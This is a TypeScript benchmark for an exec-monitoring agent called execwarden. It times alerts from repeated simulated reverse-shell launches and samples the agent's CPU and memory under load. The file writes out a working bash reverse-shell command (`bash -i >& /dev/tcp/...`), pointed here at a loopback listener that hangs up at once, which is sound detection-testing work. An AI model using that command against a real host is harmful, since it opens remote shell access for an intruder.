/**
 * The live path: from a reverse shell's exec (kernel timestamp) to its alert leaving the engine for
 * the outputs, over N launches of `setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 #i'`
 * from a shell, with and without a background exec storm; and the agent's CPU and RSS while idle
 * and under the storm, measured on a separate `execwarden run` process so the bench's own work
 * does not count.
 *
 * Each launch differs by a marker so the de-duplication window does not fold them together; a
 * launch whose alert never arrives is a missed alert.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { Agent } from '../../src/agent/agent.js';
import { resolveConfig } from '../../src/agent/config.js';
import { createLogger } from '../../src/agent/logger.js';
import { startExecStorm } from '../../src/lab/exec-storm.js';

const SEED_RULE = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');
const TICKS_PER_SECOND = 100;

interface PhaseResult {
  launches: number;
  alerts: number;
  missed: number;
  p50: number;
  p99: number;
  max: number;
}

function quantile(sorted: number[], q: number): number {
  if (sorted.length === 0) return NaN;
  return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))]!;
}

/** A loopback listener that hangs up on every connection: the simulated shell exits at once. */
async function hangUpListener(): Promise<{ server: Server; port: number }> {
  const server = createServer((socket) => socket.destroy());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port };
}

function runShell(script: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore' });
    child.once('error', reject);
    child.once('exit', () => resolve());
  });
}

async function latencyPhase(launches: number, storm: boolean): Promise<PhaseResult> {
  const config = resolveConfig({}, null);
  // Flood control off: 200 launches a minute are far past a rule's budget on purpose, and what is
  // measured here is how soon each alert leaves the engine, not how a flood is summarised.
  const agent = await Agent.start(
    { ...config, alerts: { ...config.alerts, floodWindowMs: 0 }, outputs: { queue: config.outputs.queue } },
    { logger: createLogger({ level: 'warn' }) },
  );
  const latencies = new Map<string, number>();
  agent.onAlert((alert, observedAtMs) => {
    const rule = alert.rule as { id?: string } | undefined;
    if (rule?.id !== SEED_RULE) return;
    const process = alert.process as { command_line?: string } | undefined;
    const marker = /#bench-(\d+)/.exec(process?.command_line ?? '')?.[1];
    if (marker === undefined || latencies.has(marker)) return;
    latencies.set(marker, observedAtMs - Date.parse(String(alert['@timestamp'] ?? '')));
  });
  const { server, port } = await hangUpListener();
  const stormLoad = storm ? startExecStorm(2) : null;
  try {
    // Launched from bash, one after another, 20 ms apart: a realistic cadence, not a flood.
    await runShell(
      `for i in $(seq 1 ${launches}); do setsid bash -c "bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1 #bench-$i" 2>/dev/null; sleep 0.02; done`,
    );
    const deadline = Date.now() + 3000;
    while (latencies.size < launches && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  } finally {
    stormLoad?.stop();
    server.close();
    await agent.stop();
  }
  const sorted = [...latencies.values()].sort((a, b) => a - b);
  const missing = Array.from({ length: launches }, (_, i) => String(i + 1)).filter((m) => !latencies.has(m));
  if (missing.length > 0) console.log(`${storm ? 'storm' : 'calm'}: no alert for launches ${missing.join(', ')}`);
  return {
    launches,
    alerts: latencies.size,
    missed: launches - latencies.size,
    p50: quantile(sorted, 0.5),
    p99: quantile(sorted, 0.99),
    max: sorted[sorted.length - 1] ?? NaN,
  };
}

function procCpuMs(pid: number): number {
  const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
  const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
  return ((Number(fields[11]) + Number(fields[12])) * 1000) / TICKS_PER_SECOND;
}

function procRssMiB(pid: number, key: 'VmRSS' | 'VmHWM'): number {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8');
  return Number(new RegExp(`^${key}:\\s*(\\d+)`, 'm').exec(status)?.[1] ?? NaN) / 1024;
}

interface ResourcePhase {
  cpuPercent: number;
  rssMiB: number;
}

/** Starts `execwarden run` as its own process and samples it idle, then under a storm. */
async function resourcePhases(seconds: number): Promise<{ idle: ResourcePhase; storm: ResourcePhase; peakRssMiB: number }> {
  const dir = mkdtempSync(path.join(tmpdir(), 'execwarden-bench-'));
  const configFile = path.join(dir, 'config.toml');
  writeFileSync(configFile, `[outputs.file]\npath = "${path.join(dir, 'alerts.ndjson')}"\n`);
  const agent: ChildProcess = spawn(process.execPath, [path.join(ROOT, 'bin/execwarden.js'), 'run', '--config', configFile], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let log = '';
  agent.stderr!.on('data', (chunk: Buffer) => (log += chunk.toString()));
  try {
    const started = Date.now();
    while (!log.includes('execwarden started')) {
      if (agent.exitCode !== null || Date.now() - started > 15_000) throw new Error(`agent did not start: ${log}`);
      await new Promise((r) => setTimeout(r, 50));
    }
    const sample = async (): Promise<ResourcePhase> => {
      const cpu0 = procCpuMs(agent.pid!);
      const t0 = Date.now();
      await new Promise((r) => setTimeout(r, seconds * 1000));
      const cpu1 = procCpuMs(agent.pid!);
      return { cpuPercent: ((cpu1 - cpu0) / (Date.now() - t0)) * 100, rssMiB: procRssMiB(agent.pid!, 'VmRSS') };
    };
    const idle = await sample();
    const storm = startExecStorm(2);
    let loaded: ResourcePhase;
    try {
      loaded = await sample();
    } finally {
      storm.stop();
    }
    return { idle, storm: loaded, peakRssMiB: procRssMiB(agent.pid!, 'VmHWM') };
  } finally {
    agent.kill('SIGTERM');
    await new Promise((r) => agent.once('exit', r));
    rmSync(dir, { recursive: true, force: true });
  }
}

export async function runLatencyBench(opts: { launches?: number; resourceSeconds?: number } = {}): Promise<Record<string, unknown>> {
  const launches = opts.launches ?? 200;
  const calm = await latencyPhase(launches, false);
  const storm = await latencyPhase(launches, true);
  const resources = await resourcePhases(opts.resourceSeconds ?? 5);
  const f = (v: number, d = 2): string => (Number.isFinite(v) ? v.toFixed(d) : '-');
  console.log(`\nlive path: exec -> alert, ${launches} setsid reverse-shell launches from bash per phase`);
  console.log('phase        alerts     missed  p50 ms  p99 ms  max ms');
  for (const [name, r] of [['calm', calm], ['exec storm', storm]] as const) {
    console.log(`${name.padEnd(12)} ${`${r.alerts}/${r.launches}`.padEnd(10)} ${String(r.missed).padEnd(7)} ${f(r.p50).padEnd(7)} ${f(r.p99).padEnd(7)} ${f(r.max)}`);
  }
  console.log(`targets: p99 < 10 ms calm ${calm.p99 < 10 ? 'met' : 'NOT met'}; no missed alert under the storm ${storm.missed === 0 ? 'met' : 'NOT met'}`);
  console.log(
    `agent process (execwarden run): idle ${f(resources.idle.cpuPercent, 1)}% CPU, ${f(resources.idle.rssMiB, 1)} MiB RSS; ` +
      `under the storm ${f(resources.storm.cpuPercent, 1)}% CPU, ${f(resources.storm.rssMiB, 1)} MiB RSS; peak RSS ${f(resources.peakRssMiB, 1)} MiB`,
  );
  return { calm, storm, resources };
}

if (process.argv[1] && import.meta.url === pathToFileURL(path.resolve(process.argv[1])).href) {
  runLatencyBench().catch((error: unknown) => {
    console.error(error);
    process.exitCode = 1;
  });
}
